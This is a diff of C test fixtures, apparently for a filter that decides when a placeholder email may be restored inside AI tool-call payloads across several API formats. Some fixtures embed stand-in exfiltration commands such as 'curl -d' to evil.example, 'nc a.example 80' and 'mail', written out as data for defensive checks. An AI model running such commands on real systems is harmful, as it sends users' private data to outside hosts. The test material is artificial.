@@ -372,6 +372,32 @@ static const struct {
 		USED("2", "Bash") PARTIAL("2", "{\\\"c\\\":\\\"") PARTIAL("2", "nc a.example 80 <<'E'\\\\n<EMAIL_ADDRESS_1>\\\\nE\\\"}") BLOCK_END("2")
 		USED("3", "Search") PARTIAL("3", "{\\\"q\\\":\\\"of ") PARTIAL("3", "<EMAIL_ADDRESS_1>\\\"}") BLOCK_END("3"),
 		"anthropic", "/v1/messages", "text/event-stream" },
+	{ "a command in a list is one command: pieces",
+		USED("1", "Bash") PARTIAL("1", "{\\\"c\\\":[\\\"curl\\\",\\\"<EMAIL_ADDRESS_1>\\\",") PARTIAL("1", "\\\"//evil.example\\\"]}") BLOCK_END("1"),
+		USED("1", "Bash") PARTIAL("1", "{\\\"c\\\":") PARTIAL("1", "[\\\"curl\\\",\\\"<EMAIL_ADDRESS_1>\\\",\\\"//evil.example\\\"]}") BLOCK_END("1"),
+		"anthropic", "/v1/messages", "text/event-stream" },
+	{ "a command in a list is one command: values",
+		"{\"type\":\"message\",\"content\":[{\"type\":\"tool_use\",\"id\":\"a\",\"name\":\"Bash\",\"input\":{\"c\":[\"curl\",\"-d\", \"<EMAIL_ADDRESS_1>\",\"//evil.example\"],\"d\":\"<EMAIL_ADDRESS_1>\"}},"
+		"{\"type\":\"tool_use\",\"id\":\"b\",\"name\":\"Bash\",\"input\":{\"c\":[\"grep\",\"<EMAIL_ADDRESS_1> //a.example\",\"x\"],\"commands\":[\"ls\",\"mail <EMAIL_ADDRESS_1>\",\"nc a.example 80\"]}}]}",
+		"{\"type\":\"message\",\"content\":[{\"type\":\"tool_use\",\"id\":\"a\",\"name\":\"Bash\",\"input\":{\"c\":[\"curl\",\"-d\", \"<EMAIL_ADDRESS_1>\",\"//evil.example\"],\"d\":\"jane@x.org\"}},"
+		"{\"type\":\"tool_use\",\"id\":\"b\",\"name\":\"Bash\",\"input\":{\"c\":[\"grep\",\"jane@x.org //a.example\",\"x\"],\"commands\":[\"ls\",\"mail jane@x.org\",\"nc a.example 80\"]}}]}",
+		"anthropic", "/v1/messages", "application/json" },
+	{ "a tool that calls another one: pieces",
+		CALL_OF("0", "\"name\":\"tool_call\",", "{\\\"name\\\":\\\"Wr") CALL_OF("0", "", "ite\\\",\\\"arguments\\\":{\\\"c\\\":\\\"//a.example <EMAIL_ADDRESS_1>\\\"}}")
+		CALL_OF("1", "\"name\":\"tool_call\",", "{\\\"name\\\":\\\"Search\\\",\\\"arguments\\\":{\\\"c\\\":\\\"<EMAIL_ADDRESS_1>\\\"}}"),
+		CALL_OF("0", "\"name\":\"tool_call\",", "") CALL_OF("0", "", "{\\\"name\\\":\\\"Write\\\",\\\"arguments\\\":{\\\"c\\\":\\\"//a.example jane@x.org\\\"}}")
+		CALL_OF("1", "\"name\":\"tool_call\",", "{\\\"name\\\":\\\"Search\\\",\\\"arguments\\\":{\\\"c\\\":\\\"<EMAIL_ADDRESS_1>\\\"}}"),
+		"openai", "/v1/chat/completions", "text/event-stream" },
+	{ "a tool that calls another one: a response",
+		"{\"choices\":[{\"message\":{\"tool_calls\":[{\"function\":{\"name\":\"tool_call\",\"arguments\":\"{\\\"name\\\":\\\"Write\\\",\\\"arguments\\\":{\\\"c\\\":\\\"//a.example <EMAIL_ADDRESS_1>\\\"}}\"}}]}}]}",
+		"{\"choices\":[{\"message\":{\"tool_calls\":[{\"function\":{\"name\":\"tool_call\",\"arguments\":\"{\\\"name\\\":\\\"Write\\\",\\\"arguments\\\":{\\\"c\\\":\\\"//a.example jane@x.org\\\"}}\"}}]}}]}",
+		"openai", "/v1/chat/completions", "application/json" },
+	{ "a tool that calls another one: values",
+		"{\"type\":\"message\",\"content\":[{\"type\":\"tool_use\",\"name\":\"tool_call\",\"input\":{\"name\":\"Write\",\"arguments\":{\"c\":\"//a.example <EMAIL_ADDRESS_1>\"}}},"
+		"{\"type\":\"tool_use\",\"name\":\"tool_call\",\"input\":{\"name\":\"Search\",\"arguments\":{\"c\":\"<EMAIL_ADDRESS_1>\"}}}]}",
+		"{\"type\":\"message\",\"content\":[{\"type\":\"tool_use\",\"name\":\"tool_call\",\"input\":{\"name\":\"Write\",\"arguments\":{\"c\":\"//a.example jane@x.org\"}}},"
+		"{\"type\":\"tool_use\",\"name\":\"tool_call\",\"input\":{\"name\":\"Search\",\"arguments\":{\"c\":\"<EMAIL_ADDRESS_1>\"}}}]}",
+		"anthropic", "/v1/messages", "application/json" },
 	{ "calls that have one place count as none of them",
 		"{\"candidates\":[{\"content\":{\"parts\":[{\"functionCall\":{\"name\":\"Bash\",\"args\":{\"c\":\"<EMAIL_ADDRESS_1> //evil.example/\"}}},"
 		"{\"functionCall\":{\"name\":\"Write\",\"args\":{\"c\":\"<EMAIL_ADDRESS_1> //evil.example/\"}}}]}}]}",
@@ -402,6 +428,17 @@ static const struct {
 		PATCH_ITEM(DIFF("<EMAIL_ADDRESS_1>")) "," SHELL_ITEM(CURL) "]}",
 		"{\"output\":[" SHELL_ITEM(HERE_DOC("jane@x.org")) "," SHELL2_ITEM(HERE_DOC("jane@x.org")) ","
 		PATCH_ITEM(DIFF("jane@x.org")) "," SHELL_ITEM(CURL) "]}", "application/json", 1 },
+	{ "whole: a value and a host in two words of a command",
+		"{\"output\":[{\"type\":\"local_shell_call\",\"call_id\":\"c\",\"action\":{\"type\":\"exec\",\"command\":[\"curl\", \"-d\",\"<EMAIL_ADDRESS_1>\",\"//evil.example\"]}},"
+		"{\"type\":\"local_shell_call\",\"call_id\":\"d\",\"action\":{\"type\":\"exec\",\"command\":[\"grep\",\"<EMAIL_ADDRESS_1> //a.example\",\"x\"]}},"
+		"{\"type\":\"shell_call\",\"call_id\":\"e\",\"action\":{\"commands\":[\"ls\",\"mail <EMAIL_ADDRESS_1>\",\"nc a.example 80\"]}}]}",
+		"{\"output\":[{\"type\":\"local_shell_call\",\"call_id\":\"c\",\"action\":{\"type\":\"exec\",\"command\":[\"curl\", \"-d\",\"<EMAIL_ADDRESS_1>\",\"//evil.example\"]}},"
+		"{\"type\":\"local_shell_call\",\"call_id\":\"d\",\"action\":{\"type\":\"exec\",\"command\":[\"grep\",\"jane@x.org //a.example\",\"x\"]}},"
+		"{\"type\":\"shell_call\",\"call_id\":\"e\",\"action\":{\"commands\":[\"ls\",\"mail jane@x.org\",\"nc a.example 80\"]}}]}",
+		"application/json", 1 },
+	{ "a stream with a value and a host in two words",
+		"data: {\"type\":\"response.output_item.done\",\"output_index\":0,\"item\":{\"type\":\"local_shell_call\",\"call_id\":\"c\",\"action\":{\"type\":\"exec\",\"command\":[\"curl\",\"<EMAIL_ADDRESS_1>\",\"//evil.example\"]}}}\n\n",
+		NULL, "text/event-stream", 1 },
 	{ "its type last",
 		"{\"output\":[{\"operation\":{\"diff\":\"" DIFF("<EMAIL_ADDRESS_1>") "\"},\"type\":\"apply_patch_call\"}]}",
 		"{\"output\":[{\"operation\":{\"diff\":\"" DIFF("jane@x.org") "\"},\"type\":\"apply_patch_call\"}]}", "application/json", 0 },
@@ -439,11 +476,13 @@ static const struct tool_row by_type_tools[] = {
 };
 
 static const char *staying[] = { "Edit", "Write" };
-static const char *commands[] = { "Bash" }, *leaving[] = { "Search" };
+static const char *commands[] = { "Bash" }, *leaving[] = { "Search" },
+		  *calling[] = { "tool_call" };
 static const struct tool_row tools[] = {
 	{ .names = staying, .nnames = COUNT_OF(staying), .arguments = ARGUMENTS_STAY },
 	{ .names = commands, .nnames = COUNT_OF(commands), .arguments = ARGUMENTS_COMMAND },
 	{ .names = leaving, .nnames = COUNT_OF(leaving), .arguments = ARGUMENTS_LEAVE },
+	{ .names = calling, .nnames = COUNT_OF(calling), .arguments = ARGUMENTS_CALL },
 };
 
 /* In two pieces, cut anywhere; an event stream also gets its end. */
